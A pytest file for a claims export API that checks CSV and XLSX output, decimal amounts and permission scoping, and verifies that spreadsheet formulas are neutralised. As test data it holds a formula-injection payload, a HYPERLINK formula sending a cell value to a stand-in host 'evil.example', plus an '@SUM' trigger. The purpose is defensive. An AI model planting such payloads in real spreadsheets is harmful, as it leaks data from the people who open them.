"""Finance's export of approved and paid claims: one row per line, amounts as decimal strings,
CSV and XLSX agree, formula triggers in partner text neutralised, scoped to claim.pay."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable

from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session

from core.settings import Settings
from domain.money import ClaimState
from models.claim_io import ClaimStart
from models.claims import Claim
from models.funds import Fund
from services.claims import projection, starter
from storage.local import LocalBlobStore
from tests.claims.conftest import sent_campaign

Login = Callable[[str], dict[str, str]]
ADMIN = "admin@northwind.example"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def claim_in(
    engine: Engine, settings: Settings, store: LocalBlobStore, state: ClaimState, **fund: object
) -> tuple[int, str]:
    booked = sent_campaign(engine, **fund)
    with Session(engine) as s:
        created = starter.create(s, settings, store, ClaimStart(partner_campaign_id=booked.pc_id))
        assert created.claim is not None and created.claim.id is not None
        claim_id = created.claim.id
        s.commit()
    with Session(engine) as s:
        projection.draft(s, settings, store, claim_id)
        claim = s.get(Claim, claim_id)
        assert claim is not None
        claim.lines = [
            *claim.lines,
            {
                "channel": "local",
                "quantity": 1,
                "gross_minor": 1234,
                "eligible": True,
                "source": "invoice",
                "description": EVIL,
            },
        ]
        claim.state = state
        claim.payment_reference = "@SUM(1+1)" if state == ClaimState.paid else ""
        s.add(claim)
        fund_row = s.get(Fund, booked.fund_id)
        assert fund_row is not None
        period = fund_row.period
        s.commit()
    return claim_id, period


def test_csv_has_one_row_per_line_with_decimal_amounts_and_guarded_text(
    client: TestClient, login: Login, demo: Engine, settings: Settings, blob_store: LocalBlobStore
) -> None:
    approved, period = claim_in(demo, settings, blob_store, ClaimState.approved)
    paid, _ = claim_in(demo, settings, blob_store, ClaimState.paid)
    claim_in(demo, settings, blob_store, ClaimState.draft)  # never exported
    resp = client.get("/api/v1/claims/export?format=csv", headers=login(ADMIN))
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert {int(r["claim_id"]) for r in rows} == {approved, paid}
    mine = [r for r in rows if int(r["claim_id"]) == approved]
    assert [(r["channel"], r["quantity"], r["gross"], r["share"]) for r in mine] == [
        ("email", "120", "6.00", "3.00"),
        ("sms", "7", "0.63", "0.32"),
        ("local", "1", "12.34", "6.17"),
    ]
    assert {r["partner_code"] for r in mine} == {"amsterdam"}
    assert {r["period"] for r in mine} == {period} and {r["currency"] for r in mine} == {"EUR"}
    assert mine[0]["claim_total"] == "3.32"  # the claim as drafted
    assert mine[2]["description"] == "'" + EVIL
    assert {r["payment_reference"] for r in rows if int(r["claim_id"]) == paid} == {"'@SUM(1+1)"}

    only_paid = client.get("/api/v1/claims/export?format=csv&state=paid", headers=login(ADMIN))
    assert {int(r["claim_id"]) for r in csv.DictReader(io.StringIO(only_paid.text))} == {paid}
    other = client.get(
        "/api/v1/claims/export?format=csv&period=nope", headers=login(ADMIN)
    ).text.splitlines()
    assert len(other) == 1  # the header only


def test_xlsx_carries_the_same_cells_guarded(
    client: TestClient, login: Login, demo: Engine, settings: Settings, blob_store: LocalBlobStore
) -> None:
    claim_in(demo, settings, blob_store, ClaimState.approved)
    resp = client.get("/api/v1/claims/export?format=xlsx", headers=login(ADMIN))
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = zipfile.ZipFile(io.BytesIO(resp.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "&apos;=HYPERLINK" in sheet or "'=HYPERLINK" in sheet
    assert "<f>" not in sheet  # no formula cell
    assert "12.34" in sheet and "amsterdam" in sheet


def test_only_claim_pay_exports_and_only_its_brand(
    client: TestClient, login: Login, demo: Engine, settings: Settings, blob_store: LocalBlobStore
) -> None:
    claim_in(demo, settings, blob_store, ClaimState.approved)
    for email in ("brand@northwind.example", "gm.amsterdam@northwind.example"):
        assert client.get("/api/v1/claims/export", headers=login(email)).status_code == 403
    contoso = client.get("/api/v1/claims/export", headers=login("admin@contoso.example"))
    assert contoso.status_code == 200 and len(contoso.text.splitlines()) == 1
    bad = client.get("/api/v1/claims/export?format=pdf", headers=login(ADMIN))
    assert bad.status_code == 422 and "format" in bad.text
